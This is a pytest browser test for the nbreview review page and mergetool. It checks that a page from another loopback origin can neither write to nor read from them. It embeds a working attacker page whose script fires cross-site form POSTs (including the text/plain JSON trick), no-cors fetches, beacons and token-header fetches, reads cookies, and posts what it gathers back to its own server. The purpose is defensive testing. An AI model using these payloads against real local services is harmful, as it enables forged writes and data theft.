"""A page from another 127.0.0.1 origin attacks the review page and the mergetool in chromium.

Three servers on loopback, each on its own free port: the review page, the mergetool and an
attacker. With the real pages open in the same browser, the attacker's page (its own origin,
same host, another port) tries everything a page can do without a user's help: form POSTs
(urlencoded and the ``text/plain`` JSON trick), ``fetch`` in ``no-cors`` mode, ``sendBeacon``,
a CORS ``fetch`` that sets the token header, reading the page, reading ``document.cookie``,
and its server looks at every ``Cookie`` header the browser sends it. It is given the real
URLs *with* the secret prefix (as if the address had leaked through history or a screen
share) and without it. Each server records what reached it, so the test proves the requests
really arrived and were refused, not that the browser happened to drop them. Afterwards the
real pages still work: the review page loads its images, the mergetool saves.
"""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from nbreview.web.app import Lifecycle
from support.browser import TOKEN, Pair
from support.merge_tool import resolve_in_page, write_triple
from support.paths import EXAMPLE_NEW, EXAMPLE_OLD
from support.wsgi import serve_wsgi

MERGE_TOKEN = "attacker-test-merge-token-0123456789"


@dataclass
class Hit:
    method: str
    path: str
    origin: str
    has_token_header: bool
    cookie: str
    status: int


@dataclass
class Recorder:
    """WSGI middleware that notes every request a server receives and the status it answered."""

    app: Callable[..., Iterable[bytes]]
    hits: list[Hit] = field(default_factory=list)

    def __call__(self, environ: dict[str, Any], start_response: Callable[..., Any]) -> Iterable[bytes]:
        method, path = environ["REQUEST_METHOD"], environ.get("PATH_INFO", "")
        origin, cookie = environ.get("HTTP_ORIGIN", ""), environ.get("HTTP_COOKIE", "")
        has_header = "HTTP_X_NBREVIEW_TOKEN" in environ

        def recording_start(status: str, headers: Any, *rest: Any) -> Any:
            self.hits.append(Hit(method, path, origin, has_header, cookie, int(status.split()[0])))
            return start_response(status, headers, *rest)

        return self.app(environ, recording_start)


@dataclass
class CountingLifecycle(Lifecycle):
    """The review app's Lifecycle, counting how often the page was reported closed."""

    closed_calls: int = 0

    def closed(self) -> None:
        self.closed_calls += 1
        super().closed()


@contextmanager
def serving(app: Any) -> Iterator[tuple[str, Recorder]]:
    """Serve a WSGI app on a free 127.0.0.1 port; yields its origin and its request recorder."""
    recorder = Recorder(app)
    with serve_wsgi(recorder) as origin:
        yield origin, recorder


def attacker_app(targets: dict[str, str], reports: list[Any]) -> Any:
    """The attacker's site: one page that fires every attack at ``targets``, and /report."""
    from flask import Flask, Response, request

    app = Flask("attacker")

    @app.get("/")
    def page() -> Response:
        return Response(ATTACK_PAGE.replace("TARGETS", json.dumps(targets)), mimetype="text/html")

    @app.post("/report")
    def report() -> str:
        reports.append(json.loads(request.get_data(as_text=True)))
        return "ok"

    return app


# The attacker page: plain inline script, as any web page may have.
ATTACK_PAGE = """<!doctype html><html><body><h1>cute cats</h1><script>
(async function () {
  var t = TARGETS, out = {cookie: document.cookie, reads: {}, fetches: {}};
  function form(url, fields, enctype) {
    return new Promise(function (done) {
      var name = "f" + Math.random().toString(36).slice(2);
      var frame = document.createElement("iframe");
      frame.name = name;
      frame.onload = done;
      document.body.appendChild(frame);
      var f = document.createElement("form");
      f.method = "POST"; f.action = url; f.target = name;
      if (enctype) { f.enctype = enctype; }
      Object.keys(fields).forEach(function (k) {
        var i = document.createElement("input"); i.name = k; i.value = fields[k]; f.appendChild(i);
      });
      document.body.appendChild(f);
      f.submit();
      setTimeout(done, 3000);
    });
  }
  var json = '{"choices": {"0": "local", "1": "local", "2": "local", "3": "local"}, "x": "';
  var writes = [t.review + "/api/closed", t.reviewOpen + "/api/closed", t.reviewOpen + "/api/heartbeat",
                t.merge + "/api/closed", t.mergeOpen + "/api/closed", t.mergeOpen + "/merge/api/save",
                t.merge + "/merge/api/save"];
  for (var url of writes) {
    await form(url, {x: "1"});
    await form(url, {[json]: '"}'}, "text/plain");
    try {
      await fetch(url, {method: "POST", mode: "no-cors", credentials: "include", body: json + '"}',
                        headers: {"Content-Type": "text/plain"}});
    } catch (e) { /* refused */ }
    navigator.sendBeacon(url, json + '"}');
    try {
      var r = await fetch(url, {method: "POST", credentials: "include", body: json + '"}',
                                headers: {"Content-Type": "application/json", "X-Nbreview-Token": t.guess}});
      out.fetches[url] = "status " + r.status;
    } catch (e) { out.fetches[url] = "blocked"; }
  }
  for (var page of [t.reviewOpen + "/f/0", t.mergeOpen + "/merge", t.review + "/f/0"]) {
    try {
      var resp = await fetch(page, {credentials: "include"});
      out.reads[page] = (await resp.text()).slice(0, 200);
    } catch (e) { out.reads[page] = "blocked"; }
  }
  out.cookieAfter = document.cookie;
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
  document.title = "done";
}());
</script></body></html>"""


@pytest.fixture()
def three_servers(tmp_path: Path) -> Iterator[dict[str, Any]]:
    from nbreview.io.load import load
    from nbreview.merge import merge_structured
    from nbreview.web.app import create_app
    from nbreview.web.mergetool import MergeSession, create_mergetool_app

    life = CountingLifecycle()
    review_app = create_app({"SOURCES": [Pair("example.ipynb", load(EXAMPLE_OLD), load(EXAMPLE_NEW))],
                             "TOKEN": TOKEN, "LIFECYCLE": life})
    files = write_triple(tmp_path)
    session = MergeSession(merge_structured(files["base"], files["local"], files["remote"]), str(files["merged"]))
    merge_life = CountingLifecycle()
    merge_app = create_mergetool_app(session, MERGE_TOKEN, merge_life)
    reports: list[Any] = []
    with serving(review_app) as (review, review_hits), serving(merge_app) as (merge, merge_hits):
        targets = {"review": review, "reviewOpen": f"{review}/{TOKEN}", "merge": merge,
                   "mergeOpen": f"{merge}/{MERGE_TOKEN}", "guess": MERGE_TOKEN}
        with serving(attacker_app(targets, reports)) as (attacker, attacker_hits):
            yield {"review": review, "review_hits": review_hits, "life": life, "merge": merge,
                   "merge_hits": merge_hits, "merge_life": merge_life, "session": session, "files": files,
                   "attacker": attacker, "attacker_hits": attacker_hits, "reports": reports}


def test_another_local_origin_can_neither_write_nor_read_nor_steal_a_cookie(browser: Any,
                                                                            three_servers: dict[str, Any]) -> None:
    s = three_servers
    merged_before = s["files"]["merged"].read_bytes()
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    errors: list[str] = []
    context.on("weberror", lambda e: errors.append(str(e.error)))
    # The user has both real pages open.
    review = context.new_page()
    review.goto(f"{s['review']}/{TOKEN}/")
    review.wait_for_selector("html.ready")
    merge = context.new_page()
    merge.goto(f"{s['merge']}/{MERGE_TOKEN}/merge")
    assert merge.inner_text("#progress") == "4 conflicts · 0 resolved"
    assert context.cookies() == [], "the real pages set no cookie"

    # Then visits the attacker's page in another tab.
    evil = context.new_page()
    evil.goto(s["attacker"] + "/")
    evil.wait_for_function("document.title === 'done'", timeout=60_000)
    report = s["reports"][0]

    # Nothing was written or closed, though the attacks reached both servers.
    time.sleep(0.5)
    for hits, life, urls in ((s["review_hits"].hits, s["life"], 3), (s["merge_hits"].hits, s["merge_life"], 4)):
        foreign = [h for h in hits if h.origin == s["attacker"] and h.method == "POST"]
        # Per URL: two forms, a no-cors fetch and a beacon (the CORS fetch dies at its preflight).
        assert len(foreign) == 4 * urls, f"the attacks arrived: {[(h.path, h.status) for h in foreign]}"
        assert {h.status for h in foreign} == {403}, [(h.path, h.status) for h in foreign if h.status != 403]
        assert not [h for h in foreign if h.has_token_header], "the token header never crossed origins"
        preflights = [h for h in hits if h.origin == s["attacker"] and h.method == "OPTIONS"]
        assert len(preflights) == urls and {h.status for h in preflights} == {403}, "CORS preflights are refused"
        assert life.closed_calls == 0 and life.closed_at == 0
    assert s["files"]["merged"].read_bytes() == merged_before and not s["session"].saved
    assert all(v == "blocked" for v in report["fetches"].values()), report["fetches"]
    assert all(v == "blocked" for v in report["reads"].values()), report["reads"]

    # No cookie to leak: none in the browser, none sent to the attacker's port, none readable there.
    assert context.cookies() == []
    assert report["cookie"] == "" and report["cookieAfter"] == ""
    assert not [h.cookie for h in s["attacker_hits"].hits if h.cookie], "the browser sent the attacker's port a cookie"
    evil.close()

    # The real pages still work: the review page's images load, the mergetool saves.
    review.bring_to_front()
    images = review.locator("main img[src]")
    assert images.count() >= 2
    for k in range(images.count()):
        images.nth(k).scroll_into_view_if_needed()
    review.wait_for_function("Array.from(document.querySelectorAll('main img[src]'))"
                             ".every(i => i.complete && i.naturalWidth > 0)")
    merge.bring_to_front()
    resolve_in_page(merge, f"{s['merge']}/{MERGE_TOKEN}/merge")
    assert s["session"].saved and s["session"].exit_status == 0
    own = [h for h in s["merge_hits"].hits if h.path.endswith("/merge/api/save") and h.status == 200]
    assert [h.method for h in own] == ["POST"]
    assert len(own) == 1 and own[0].origin == s["merge"] and own[0].has_token_header
    assert errors == []
    context.close()
